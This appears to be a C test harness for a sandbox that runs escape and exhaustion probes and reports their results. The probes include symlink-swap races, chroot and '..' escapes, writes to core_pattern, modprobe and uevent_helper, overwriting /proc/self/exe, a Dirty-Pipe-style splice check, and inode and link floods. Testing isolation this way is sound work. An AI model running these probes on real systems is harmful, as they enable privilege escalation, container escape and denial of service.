// Files: of /tmp, of the root, of /proc, of the package.
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/xattr.h>
#include <unistd.h>

#include "attacker.h"

static long long blocks_of(int fd) {
  struct stat s;
  return fstat(fd, &s) == 0 ? (long long)s.st_blocks : -1;
}

// B11
int sparse(void) {
  int const fd = open("/tmp/sparse", O_CREAT | O_RDWR, 0600);
  say("truncate", ftruncate(fd, 1ll << 50));
  say_number("blocks after truncate", blocks_of(fd));
  say("allocate", fallocate(fd, 0, 0, 1ll << 50));
  say("allocate beyond the end", fallocate(fd, FALLOC_FL_KEEP_SIZE, 1ll << 50, 1ll << 40));
  say_number("blocks after allocate", blocks_of(fd));
  say("write at the end", pwrite(fd, "x", 1, (1ll << 50) - 1) == 1 ? 0 : -1);
  say_number("blocks after write", blocks_of(fd));
  return 0;
}

// B12. Stays in the deepest directory.
int deep(void) {
  char name[256];
  memset(name, 'd', 255);
  name[255] = '\0';
  int depth = 0;
  if (chdir("/tmp") != 0) return 1;
  while (depth < 100000 && mkdir(name, 0700) == 0 && chdir(name) == 0) ++depth;
  say_number("depth", depth);
  fflush(stdout);
  for (;;) pause();
}

// B13: /tmp/race is a directory one moment, and a link to the target the next. For ever.
int swap_links(char const* target) {
  if (mkdir("/tmp/race", 0700) != 0 || symlink(target, "/tmp/link") != 0) return 1;
  puts("swapping");
  fflush(stdout);
  for (;;) syscall(SYS_renameat2, AT_FDCWD, "/tmp/race", AT_FDCWD, "/tmp/link", 2 /* exchange */);
}

// B14, B18: every mount that there is, and where a file could be made, the magic of its file
// system.
int write_mounts(void) {
  char line[4096], point[2048];
  FILE* f = fopen("/proc/self/mountinfo", "r");
  int mounts = 0;
  while (f && fgets(line, sizeof line, f)) {
    if (sscanf(line, "%*s %*s %*s %*s %2047s", point) != 1) continue;
    ++mounts;
    char path[2100];
    snprintf(path, sizeof path, "%s/probe", point);
    struct statfs s;
    int const made = open(path, O_CREAT | O_WRONLY, 0600);
    if (made >= 0 && fstatfs(made, &s) == 0)
      printf("made %s %lx\n", point, (unsigned long)s.f_type);
    int const there = open(point, O_WRONLY);  // where the mount is a file
    if (there >= 0 && fstatfs(there, &s) == 0) printf("opened %s\n", point);
  }
  say_number("mounts", mounts);
  return 0;
}

// B16
int flood_links(void) {
  static char value[65536];
  int const fd = open("/tmp/file", O_CREAT | O_RDWR, 0600);
  say("attribute", setxattr("/tmp/file", "user.x", value, sizeof value, 0));
  say("attribute by descriptor", fsetxattr(fd, "user.x", value, sizeof value, 0));
  say("access list", setxattr("/tmp/file", "system.posix_acl_access", value, 1024, 0));
  long links = 0;
  char path[64];
  for (;; ++links) {
    snprintf(path, sizeof path, "/tmp/link-%ld", links);
    if (link("/tmp/file", path) != 0) break;
  }
  printf("links %ld %s\n", links, strerrorname_np(errno));
  long locks = 0;
  for (int other; (other = open("/tmp/link-0", O_RDONLY)) >= 0; ++locks)
    if (flock(other, LOCK_SH) != 0) break;
  printf("locks %s\n", strerrorname_np(errno));
  return 0;
}

static void say_place(char const* what, int fd) {
  struct stat root, s;
  stat("/", &root);
  if (fd < 0 || fstat(fd, &s) != 0)
    printf("%s %s\n", what, strerrorname_np(errno));
  else
    printf("%s %s\n", what,
           s.st_dev == root.st_dev && s.st_ino == root.st_ino ? "root" : "elsewhere");
  if (fd >= 0) close(fd);
}

// D3: each is the root, or refused.
int climb(void) {
  char up[512] = "..";
  for (int i = 0; i < 100; ++i) strcat(up, "/..");
  int const root = open("/", O_RDONLY | O_DIRECTORY);
  int const tmp = open("/tmp", O_RDONLY | O_DIRECTORY);
  int const task = open("/var/task", O_PATH | O_DIRECTORY);
  say_place("from root", openat(root, up, O_RDONLY | O_DIRECTORY));
  say_place("from tmp", openat(tmp, up, O_RDONLY | O_DIRECTORY));
  say_place("from task", openat(task, up, O_RDONLY | O_DIRECTORY));
  say_place("by proc", open("/proc/self/root/../..", O_RDONLY | O_DIRECTORY));
  say_place("by cwd", open("/proc/self/cwd/../../../..", O_RDONLY | O_DIRECTORY));
  say_place("by pid 1", open("/proc/1/root", O_RDONLY | O_DIRECTORY));
  // The old way out of a chroot: change the root below an open directory, then climb from that.
  mkdir("/tmp/jail", 0700);
  say("chroot", chroot("/tmp/jail"));
  if (fchdir(root) != 0 || chdir(up) != 0) return 1;
  say_place("after chroot", open(".", O_RDONLY | O_DIRECTORY));
  // A directory that is moved up while one stands in it.
  mkdir("/tmp/a", 0700), mkdir("/tmp/a/b", 0700);
  if (chdir("/tmp/a/b") != 0) return 1;
  say("move up", rename("/tmp/a/b", "/tmp/b"));
  say_place("after move", open(up, O_RDONLY | O_DIRECTORY));
  return 0;
}

// D2: where it was put, and whether the way up from there ends at the root.
int climb_here(void) {
  char where[4096];
  printf("directory %s\n", getcwd(where, sizeof where) ? where : strerrorname_np(errno));
  say_place("up", open("../../../../../../../..", O_RDONLY | O_DIRECTORY));
  return 0;
}

// D6: "path ERRNO", or "path written".
int write_kernel(void) {
  static char const* const kFiles[][2] = {{"/proc/sys/kernel/core_pattern", "|/tmp/x"},
                                          {"/proc/sys/kernel/modprobe", "/tmp/x"},
                                          {"/proc/sys/vm/overcommit_memory", "1"},
                                          {"/proc/sys/fs/suid_dumpable", "2"},
                                          {"/proc/sysrq-trigger", "h"},
                                          {"/proc/irq/default_smp_affinity", "1"},
                                          {"/sys/kernel/uevent_helper", "/tmp/x"},
                                          {"/sys/fs/cgroup/cgroup.procs", "0"},
                                          {"/proc/self/oom_score_adj", "-1000"},
                                          {"/proc/self/oom_adj", "-17"},
                                          {"/proc/self/timens_offsets", "monotonic 1000 0"},
                                          {"/proc/self/uid_map", "0 0 1"},
                                          {"/proc/self/gid_map", "0 0 1"},
                                          {"/proc/self/setgroups", "allow"},
                                          {"/proc/self/loginuid", "0"},
                                          {"/proc/self/attr/current", "unconfined"},
                                          {"/proc/self/attr/exec", "unconfined"}};
  for (size_t i = 0; i < sizeof kFiles / sizeof *kFiles; ++i) {
    int const fd = open(kFiles[i][0], O_WRONLY);
    int const written = fd >= 0 && write(fd, kFiles[i][1], strlen(kFiles[i][1])) > 0;
    printf("%s %s\n", kFiles[i][0], written ? "written" : strerrorname_np(errno));
    if (fd >= 0) close(fd);
  }
  return 0;
}

// D4: the programs that run here: its own, that of pid 1, and those of the package.
int write_programs(void) {
  static char const* const kPrograms[] = {"/proc/self/exe", "/proc/1/exe", "/var/task/attacker",
                                          "/proc/self/fd/../exe", "/bin/sh"};
  for (size_t i = 0; i < sizeof kPrograms / sizeof *kPrograms; ++i) {
    int fd = open(kPrograms[i], O_WRONLY);
    say(kPrograms[i], fd);
    // The way round "text file busy": a descriptor opened for its path, opened again.
    int const path = open(kPrograms[i], O_PATH);
    char again[64];
    snprintf(again, sizeof again, "/proc/self/fd/%d", path);
    if (path >= 0 && (fd = open(again, O_WRONLY | O_TRUNC)) >= 0) puts("opened again");
  }
  return 0;
}

// C19: the page of the code lies in the pipe; what is written to the pipe must not reach it.
int splice_code(void) {
  int const code = open("/var/task/attacker", O_RDONLY);
  int ends[2];
  if (code < 0 || pipe(ends) != 0) return 1;
  // All buffers of the pipe used once, so that a flag of theirs could be left over.
  static char page[4096];
  for (int i = 0; i < 16; ++i)
    if (write(ends[1], page, sizeof page) != sizeof page) return 1;
  for (int i = 0; i < 16; ++i)
    if (read(ends[0], page, sizeof page) != sizeof page) return 1;
  long before, after;
  loff_t at = 128;
  if (pread(code, &before, sizeof before, 129) != sizeof before) return 1;
  say("splice", splice(code, &at, ends[1], NULL, 1, 0));
  say("write", write(ends[1], "overwritten", 11) == 11 ? 0 : -1);
  if (pread(code, &after, sizeof after, 129) != sizeof after) return 1;
  printf("code %s\n", before == after ? "unchanged" : "changed");
  return 0;
}

// C25
int device_nodes(void) {
  say("character device", mknod("/tmp/c", S_IFCHR | 0600, makedev(1, 3)));
  say("block device", mknod("/tmp/b", S_IFBLK | 0600, makedev(8, 0)));
  say("fifo", mknod("/tmp/p", S_IFIFO | 0600, 0));  // what the call is allowed for
  static char const* const kDevices[] = {
      "/dev/mem",  "/dev/kmsg",    "/dev/sda", "/dev/vda",     "/dev/kvm",        "/dev/fuse",
      "/dev/ptmx", "/dev/console", "/dev/tty", "/dev/net/tun", "/dev/userfaultfd"};
  for (size_t i = 0; i < sizeof kDevices / sizeof *kDevices; ++i)
    say(kDevices[i], open(kDevices[i], O_RDWR));
  return 0;
}

// D11: what the places of the root are, whatever the package holds.
int root_kinds(void) {
  static char const* const kPlaces[] = {"/dev", "/proc", "/tmp", "/etc", "/var/task"};
  for (size_t i = 0; i < sizeof kPlaces / sizeof *kPlaces; ++i) {
    struct stat s;
    struct statfs f;
    if (lstat(kPlaces[i], &s) != 0 || statfs(kPlaces[i], &f) != 0) return 1;
    printf("%s %s\n", kPlaces[i],
           !S_ISDIR(s.st_mode)      ? "no directory"
           : f.f_type == 0x9fa0     ? "proc"
           : f.f_type == 0x01021994 ? "tmpfs"
                                    : "other");
  }
  struct stat null;
  printf("null %d\n",
         lstat("/dev/null", &null) == 0 && S_ISCHR(null.st_mode) && null.st_rdev == makedev(1, 3));
  say("sys", open("/sys", O_PATH));
  return 0;
}
